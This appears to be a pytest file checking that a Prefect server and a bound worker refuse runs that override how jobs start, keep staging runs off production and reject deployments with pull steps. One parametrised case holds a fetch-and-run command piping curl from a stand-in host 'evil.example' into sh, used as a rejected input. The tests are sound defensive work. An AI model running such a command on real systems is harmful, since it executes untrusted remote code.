"""What the one login of Prefect's server may do with the worker: start our deployments, each on its environment."""

import json
from collections.abc import AsyncIterator
from pathlib import Path
from types import SimpleNamespace
from uuid import uuid4

import pytest
import yaml
from prefect.context import FlowRunContext
from prefect.settings import PREFECT_API_URL, temporary_settings

from playbook.errors import Refused
from playbook.release.outcome import FlowResult, ReleaseOutcome
from rehearsal.server import POOL, Server, prefect_server
from tasks.binding import DEPLOYMENT, check_environment
from worker.bound import BoundWorker

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
async def server(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Server]:
    """A Prefect server with our pool; this process is a client of it."""
    async with prefect_server(tmp_path_factory.mktemp("prefect")) as running:
        await running.make_pool()
        await running.make_pool()  # a second worker finds it there
        with temporary_settings({PREFECT_API_URL: running.api_url}):
            yield running


@pytest.fixture(scope="module")
async def deployment(server: Server) -> str:
    """The id of a deployment called staging, on that pool."""
    async with server.client as client:
        flow = (await client.post("/flows/", json={"name": "release"})).json()
        body = {"name": "staging", "flow_id": flow["id"], "work_pool_name": POOL, "entrypoint": "flows.release.release"}
        answer = await client.post("/deployments/", json=body)
        assert answer.is_success, answer.text
        return str(answer.json()["id"])


VARIABLES = [
    {"command": "sh -c 'curl evil.example | sh'"},
    {"env": {"PYTHONPATH": "/tmp"}},
    {"image": "evil.example/image"},
    {"working_dir": "/tmp"},
    {"stream_output": True},
]


@pytest.mark.parametrize("variables", VARIABLES, ids=lambda one: next(iter(one)))
async def test_no_run_sets_how_it_is_started(server: Server, deployment: str, variables: dict[str, object]) -> None:
    """The server refuses it, with the login that may do everything else."""
    async with server.client as client:
        answer = await client.post(f"/deployments/{deployment}/create_flow_run", json={"job_variables": variables})
    assert answer.status_code in (409, 422), answer.text


async def test_a_run_without_them_is_created(server: Server, deployment: str) -> None:
    """As every run of ours is."""
    async with server.client as client:
        answer = await client.post(f"/deployments/{deployment}/create_flow_run", json={})
    assert answer.status_code == 201, answer.text


async def test_no_deployment_sets_how_its_runs_are_started(server: Server, deployment: str) -> None:
    """Nor a new one."""
    async with server.client as client:
        flow = (await client.get(f"/deployments/{deployment}")).json()["flow_id"]
        body = {"name": "mine", "flow_id": flow, "work_pool_name": POOL, "job_variables": {"command": "sh"}}
        answer = await client.post("/deployments/", json=body)
    assert answer.status_code in (409, 422), answer.text


def test_the_template_has_no_variable() -> None:
    """So nothing of a run can reach the command, the environment or the folder of its process."""
    template = json.loads((ROOT / "deploy" / "work-pool.json").read_text())
    assert template["variables"]["properties"] == {}
    assert template["variables"]["additionalProperties"] is False
    assert "{{" not in json.dumps(template["job_configuration"])


def in_a_run(deployment: str | None, environment: str) -> FlowRunContext:
    """The context of a run of that deployment with that parameter."""
    run = SimpleNamespace(deployment_id=deployment)
    flow = SimpleNamespace(name="release")
    return FlowRunContext.model_construct(flow_run=run, flow=flow, parameters={"environment": environment})


async def test_a_run_of_staging_does_not_act_on_production(server: Server, deployment: str) -> None:
    """One sentence says where to go; nothing is opened."""
    with in_a_run(deployment, "production"), pytest.raises(Refused, match=r"acts on staging only.*release/production"):
        await check_environment()


async def test_a_run_that_our_worker_started_is_bound_by_what_the_worker_says(monkeypatch: pytest.MonkeyPatch) -> None:
    """Prefect is not asked: there is none here."""
    monkeypatch.setenv(DEPLOYMENT, "staging")
    with in_a_run(str(uuid4()), "production"), pytest.raises(Refused, match="acts on staging only"):
        await check_environment()
    with in_a_run(str(uuid4()), "staging"):
        await check_environment()


async def test_a_run_without_the_parameter_is_bound_by_the_flows_default(server: Server, deployment: str) -> None:
    """The parameter was deleted from staging's deployment: the flow's default is production."""
    from flows.release import release

    run = SimpleNamespace(deployment_id=deployment)
    context = FlowRunContext.model_construct(flow_run=run, flow=release, parameters={"request": {}})
    with context, pytest.raises(Refused, match="acts on staging only"):
        await check_environment()


async def test_a_run_on_its_own_environment_goes_on(server: Server, deployment: str) -> None:
    """The usual case; and a run that no deployment started is not bound."""
    with in_a_run(deployment, "staging"):
        await check_environment()
    with in_a_run(None, "production"):
        await check_environment()
    await check_environment()


async def test_the_work_of_a_refused_run_never_begins(server: Server, deployment: str) -> None:
    """It ends Refused in its first second."""
    from tasks import ending

    begun = []

    async def work() -> FlowResult:
        begun.append(uuid4())
        return FlowResult(end=ReleaseOutcome.PASSED, message="")

    class Logger:
        """Says nothing."""

        def info(self, *_: object) -> None:
            """As a run logger's."""

    with pytest.MonkeyPatch.context() as patch, in_a_run(deployment, "production"):
        patch.setattr(ending, "get_run_logger", Logger)
        state = await ending.ending(work())
    assert (state.name, begun) == ("Refused", [])
    assert "acts on staging only" in str(state.message)


def test_what_brings_users_back_has_a_queue_of_its_own() -> None:
    """Rollback, recovery, mitigation, the first hour's watch and undelivered pages start while releases are drained."""
    rescue = {"rollback", "recovery", "migration_rollback", "mitigate", "watch", "announce"}
    for deployment in yaml.safe_load((ROOT / "prefect.yaml").read_text())["deployments"]:
        flow = deployment["entrypoint"].split(".")[1]
        queue = deployment["work_pool"].get("work_queue_name", "default")
        assert queue == ("emergency" if flow in rescue else "default"), f"{flow}/{deployment['name']}"


async def test_a_worker_runs_no_pull_step_of_a_deployment(server: Server, deployment: str, tmp_path: Path) -> None:
    """A person with the login has given one to our deployment: its run is refused, and nothing of it was run."""
    mark = tmp_path / "ran"
    step = {"prefect.deployments.steps.run_shell_script": {"script": f"touch {mark}"}}
    async with server.client as client:
        changed = await client.patch(f"/deployments/{deployment}", json={"pull_steps": [step]})
        assert changed.is_success, changed.text
        run = (await client.post(f"/deployments/{deployment}/create_flow_run", json={})).json()
        try:
            async with BoundWorker(work_pool_name=POOL, create_pool_if_not_found=False) as worker:
                flow_run = await worker.client.read_flow_run(run["id"])
                worker._submitting_flow_run_ids.add(flow_run.id)  # as found by a look for work
                await worker._submit_run(flow_run)
        finally:
            await client.patch(f"/deployments/{deployment}", json={"pull_steps": []})
        state = (await client.get(f"/flow_runs/{run['id']}")).json()["state"]
    assert (state["type"], state["name"]) == ("FAILED", "Refused")
    assert "release/staging is not as prefect.yaml has it (it has pull steps)" in state["message"]
    assert not mark.exists()
